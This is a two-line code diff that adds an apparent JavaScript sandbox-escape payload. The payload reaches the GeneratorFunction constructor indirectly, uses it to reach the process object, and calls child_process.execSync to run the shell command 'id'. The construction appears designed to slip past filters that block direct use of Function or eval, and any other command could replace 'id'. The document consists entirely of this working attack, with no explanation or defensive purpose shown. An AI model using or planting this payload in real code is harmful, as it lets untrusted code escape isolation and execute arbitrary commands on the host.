@@ -1,0 +1,2 @@
+const G = Object.getPrototypeOf(function* () {}).constructor;
+G("yield process")().next().value.mainModule.require("child_process").execSync("id", {stdio: "inherit"});
